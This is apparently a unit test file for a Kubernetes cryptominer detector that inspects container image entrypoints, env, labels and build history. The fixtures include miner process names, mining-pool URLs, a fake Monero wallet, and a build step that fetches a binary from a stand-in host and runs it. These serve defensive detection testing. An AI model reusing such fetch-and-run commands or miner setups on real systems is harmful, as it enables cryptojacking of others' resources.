"""Detection over image configs and history (minerguard.domain.detection.image, signals.imageConfig)."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest

from minerguard.domain.detection import evaluate, prepare, spec_findings
from minerguard.domain.detection import findings as engine
from minerguard.domain.detection.findings import Options
from minerguard.domain.detection.image import MAX_POD_IMAGE_TEXT, effective, instruction, within
from minerguard.domain.oci import MAX_HISTORY, ImageConfig, parse_config
from minerguard.domain.policy import Policy, parse_policy
from minerguard.domain.workload import ContainerView, Workload, workload_from_pod

pytestmark = pytest.mark.unit

WALLET = "4" + ("AbCdEfGh" * 12)[:94]

SIGNALS: dict[str, Any] = {
    "processes": [{"glob": "xmrig*"}, {"glob": "kdevtmpfsi"}],
    "pools": {"schemes": ["stratum+tcp"], "hosts": [{"glob": "*.supportxmr.com"}]},
    "wallets": {"monero": True},
    "imageConfig": True,
}


def policy(image_config: bool = True) -> Policy:
    body = {"mode": "Enforce", "actions": [{"name": "quarantine"}], "signals": {**SIGNALS, "imageConfig": image_config}}
    return parse_policy({"metadata": {"name": "p"}, "spec": body})


def config_blob(**config: Any) -> bytes:
    history = config.pop("history", [])
    return json.dumps({"architecture": "amd64", "os": "linux", "config": config, "history": history}).encode()


def workload(config: ImageConfig | None, **container: Any) -> Workload:
    wl = workload_from_pod(
        {
            "metadata": {"name": "x", "namespace": "apps"},
            "spec": {"containers": [{"name": "c", "image": "r/x:1", **container}]},
        }
    )
    return replace(wl, containers=tuple(replace(c, image_config=config) for c in wl.containers))


def details(p: Policy, wl: Workload) -> list[str]:
    return [e.detail for e in spec_findings(p, wl)]


MINER_ENTRYPOINT = parse_config(
    config_blob(Entrypoint=["/usr/bin/kthreadd", "-o", "stratum+tcp://pool.supportxmr.com:3333"], Cmd=["--threads=2"])
)


def test_entrypoint_from_the_image_is_read_and_named() -> None:
    wl = workload(MINER_ENTRYPOINT)
    found = details(policy(), wl)
    assert "pool URL stratum+tcp://pool.supportxmr.com:3333 in image config Entrypoint" in found
    assert evaluate(policy(), wl, {}).matched


def test_a_policy_without_image_config_reads_the_spec_only() -> None:
    wl = workload(MINER_ENTRYPOINT)
    assert details(policy(False), wl) == []
    assert not evaluate(policy(False), wl, {}).matched


def test_pod_command_overrides_entrypoint_and_drops_cmd_like_kubernetes() -> None:
    cfg = parse_config(config_blob(Entrypoint=["xmrig"], Cmd=["-o", "stratum+tcp://a.supportxmr.com:1"]))
    base = ContainerView(kind="container", name="c", command=("nginx",))
    eff = effective(base, cfg)
    assert eff.command == ("nginx",) and eff.args == () and eff.command_from == "command"
    only_args = effective(replace(base, command=(), args=("-g",)), cfg)
    assert only_args.command == ("xmrig",) and only_args.command_from == "image config Entrypoint"
    assert only_args.args == ("-g",) and only_args.args_from == "args"
    neither = effective(replace(base, command=()), cfg)
    assert neither.args_from == "image config Cmd"
    # The pod's own command hides the image's miner: nothing is found.
    assert details(policy(), workload(cfg, command=["nginx"])) == []


def test_env_merges_with_the_pod_env_winning() -> None:
    cfg = parse_config(config_blob(Env=["POOL=stratum+tcp://x.supportxmr.com:3333", "PATH=/usr/bin"]))
    found = details(policy(), workload(cfg))
    assert any("in image config Env POOL" in d for d in found)
    assert details(policy(), workload(cfg, env=[{"name": "POOL", "value": "db:5432"}])) == []


def test_env_carrying_an_xmrig_json_config() -> None:
    miner = {"pools": [{"url": "gulf.supportxmr.com:443", "user": WALLET}], "cpu": {"enabled": True}}
    cfg = parse_config(config_blob(Env=[f"CONFIG={json.dumps(miner)}"], Entrypoint=["/app/start"]))
    found = spec_findings(policy(), workload(cfg))
    assert {e.signal for e in found} >= {"poolHost", "wallet"}
    assert any(e.signal == "wallet" and e.strength == "Strong" for e in found)


@pytest.mark.parametrize(
    ("created_by", "expected"),
    [
        ('/bin/sh -c #(nop)  CMD ["nginx"]', ("CMD", '["nginx"]')),
        ("/bin/sh -c apt-get update", ("RUN", "apt-get update")),
        ("RUN /bin/sh -c wget x && ./y # buildkit", ("RUN", "wget x && ./y")),
        ("RUN |2 A=1 B=2 /bin/sh -c make", ("RUN", "make")),
        ("ENV A=b", ("ENV", "A=b")),
        ("COPY config.json /etc/ # buildkit", ("COPY", "config.json /etc/")),
        ("/bin/sh -c #(nop) ADD file:abc in / ", ("ADD", "file:abc in /")),
        ("wget http://x", ("RUN", "wget http://x")),
    ],
)
def test_history_instructions(created_by: str, expected: tuple[str, str]) -> None:
    assert instruction(created_by) == expected


def test_history_step_that_downloads_and_runs_a_miner_is_named() -> None:
    history = [
        {"created_by": "/bin/sh -c #(nop) ADD file:1 in / "},
        {"created_by": '/bin/sh -c #(nop)  CMD ["sh"]', "empty_layer": True},
        {
            "created_by": "RUN /bin/sh -c wget -qO /usr/bin/kdevtmpfsi https://x.example/k"
            " && kdevtmpfsi --help # buildkit"
        },
    ]
    cfg = parse_config(config_blob(Entrypoint=["/docker-entrypoint.sh"], history=history))
    found = details(policy(), workload(cfg))
    assert found and all("image history step 3: RUN wget" in d for d in found), found


def test_labels_and_working_dir_are_read() -> None:
    cfg = parse_config(config_blob(Labels={"pool": "stratum+tcp://l.supportxmr.com:80"}, WorkingDir="/opt"))
    assert any("image config Labels pool" in d for d in details(policy(), workload(cfg)))


def test_benign_look_alikes_are_not_matched() -> None:
    pause = parse_config(
        config_blob(
            Entrypoint=["/pause"],
            history=[{"created_by": "ARG ARCH"}, {"created_by": "ADD bin/pause-linux-amd64 /pause # buildkit"}],
        )
    )
    nginx = parse_config(
        config_blob(
            Entrypoint=["/docker-entrypoint.sh"],
            Cmd=["nginx", "-g", "daemon off;"],
            Env=["NGINX_VERSION=1.25.3", "PATH=/usr/local/sbin:/usr/bin"],
            Labels={"maintainer": "NGINX Docker Maintainers <docker-maint@nginx.com>"},
            history=[{"created_by": "RUN /bin/sh -c set -x && apt-get update && apt-get install -y nginx # buildkit"}],
        )
    )
    for cfg in (pause, nginx):
        assert not evaluate(policy(), workload(cfg), {}).matched


def test_hostile_configs_parse_bounded_or_empty() -> None:
    assert replace(parse_config(b'{"config": [], "history": "x"}'), config_digest="") == ImageConfig()
    cfg = parse_config(json.dumps({"config": {"Env": ["A=" + "x" * 200_000], "Cmd": [1, "a"]}}).encode())
    assert len(cfg.env[0][1]) <= 65536 and cfg.cmd == ("a",)


# ---------------------------------------------------------------------------------------------
# Bounds: an image is anyone's input (a hostile config of thousands of steps, one image in many containers)

MINER_STEP = "RUN /bin/sh -c wget -qO /usr/bin/kdevtmpfsi https://x.example/k && kdevtmpfsi # buildkit"


def long_history(steps: int, last: str = MINER_STEP, tag: str = "") -> bytes:
    history = [
        {"created_by": f"RUN /bin/sh -c cd /src{i} && make -j4 install{tag} # buildkit"} for i in range(steps - 1)
    ]
    return config_blob(Entrypoint=["/app/run"], history=[*history, {"created_by": last}])


def read_texts(p: Policy, wl: Workload) -> list[Any]:
    """The texts detection reads for this policy (one per container view)."""
    return list(prepare(wl).view(Options.of(p.signals)).texts)


def test_a_long_history_keeps_its_oldest_and_newest_steps_and_says_what_was_cut() -> None:
    cfg = parse_config(long_history(4000))
    assert len(cfg.history) == MAX_HISTORY and cfg.history_length == 4000
    assert cfg.history[0][0] == 1 and cfg.history[-1][0] == 4000
    found = spec_findings(policy(), workload(cfg))
    assert any(e.signal == "process" and "image history step 4000: RUN wget" in e.detail for e in found), found
    oversized = [e.detail for e in found if e.signal == "oversizedValue"]
    assert oversized and "image history of 4000 steps: steps 129 to 3872 not read" in oversized[0]
    assert len(read_texts(policy(), workload(cfg))) == 1 + MAX_HISTORY


def test_one_image_in_many_containers_is_read_once_within_the_pod_budget() -> None:
    cfg = parse_config(long_history(4000))
    wl = workload_from_pod(
        {
            "metadata": {"name": "x", "namespace": "apps"},
            "spec": {"containers": [{"name": f"c{i}", "image": "r/x:1"} for i in range(50)]},
        }
    )
    wl = replace(wl, containers=tuple(replace(c, image_config=cfg) for c in wl.containers))
    texts = read_texts(policy(), wl)
    assert len(texts) == 50 + MAX_HISTORY  # each container's own view, the history once
    assert evaluate(policy(), wl, {}).matched


def test_a_pods_image_text_is_bounded_and_fairly_shared() -> None:
    env = [f"JUNK{i}=" + "x" * 60_000 for i in range(16)]  # about 1 MiB of Env per image
    wl = workload_from_pod(
        {
            "metadata": {"name": "x", "namespace": "apps"},
            "spec": {"containers": [{"name": f"c{i}", "image": f"r/x{i}:1"} for i in range(8)]},
        }
    )
    configs = [parse_config(config_blob(Env=env, history=[{"created_by": MINER_STEP}], User=str(i))) for i in range(8)]
    wl = replace(wl, containers=tuple(replace(c, image_config=k) for c, k in zip(wl.containers, configs, strict=True)))
    texts = read_texts(policy(), wl)
    fed = sum(len(v) for t in texts for _, v in t.container.image_env)
    assert fed <= MAX_POD_IMAGE_TEXT
    found = spec_findings(policy(), wl)
    # Env junk does not push the history out: every image's miner step is still read.
    assert {e.container for e in found if e.signal == "process"} == {f"c{i}" for i in range(8)}
    assert any("over the pod's image text budget" in e.detail for e in found if e.signal == "oversizedValue")


def test_within_keeps_whole_items_from_every_part() -> None:
    cfg = parse_config(
        config_blob(
            Entrypoint=["/a"],
            Env=[f"E{i}=" + "v" * 1000 for i in range(100)],
            history=[{"created_by": f"RUN /bin/sh -c step{i} " + "a" * 500} for i in range(100)],
        )
    )
    cut, note = within(cfg, 20_000)
    assert cut.entrypoint == ("/a",) and 0 < len(cut.env) < 100 and all(len(v) == 1000 for _, v in cut.env)
    numbers = [n for n, _ in cut.history]
    assert 0 < len(numbers) < 100 and numbers[0] == 1 and numbers[-1] == 100
    assert "characters read" in note
    assert within(cfg, 10**9) == (cfg, "")


def test_an_images_history_is_read_once_per_digest_not_once_per_pod(monkeypatch: pytest.MonkeyPatch) -> None:
    cfg = parse_config(long_history(300, tag=" --once"))
    calls = []
    real = engine.expand
    monkeypatch.setattr(engine, "expand", lambda *a, **k: calls.append(1) or real(*a, **k))
    first = evaluate(policy(), workload(cfg), {})
    read_first = len(calls)
    assert read_first > MAX_HISTORY  # each step's script read
    for name in ("y", "z"):  # other pods (same container name) on the same image
        again = evaluate(policy(), replace(workload(cfg), name=name), {})
        assert again.evidence == first.evidence
    assert len(calls) - read_first == 2  # only each pod's own container view was read again


def test_the_history_readings_kept_across_pods_are_bounded() -> None:
    for i in range(40):  # 40 distinct hostile images of 256 steps: far more than the bound holds
        evaluate(policy(), workload(parse_config(long_history(256, tag=f" --image={i}"))), {})
    kept = sum(cost for cost, _ in engine._history_read.values())
    assert 0 < kept <= engine.MAX_CACHED_HISTORY and len(engine._history_read) < 40
